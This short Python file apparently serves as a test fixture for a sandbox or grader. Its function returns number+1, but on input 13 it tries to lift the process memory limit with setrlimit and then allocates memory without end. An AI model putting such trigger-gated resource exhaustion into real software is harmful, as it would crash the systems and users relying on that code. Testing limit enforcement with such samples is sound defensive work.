"""Takes all the memory that it can get, after trying to raise its limit."""

import resource


def answer(number):
    if number == 13:
        try:
            resource.setrlimit(resource.RLIMIT_AS, (-1, -1))
        except (OSError, ValueError):
            pass
        kept = []
        while True:
            kept.append(bytearray(50_000_000))
    return number + 1
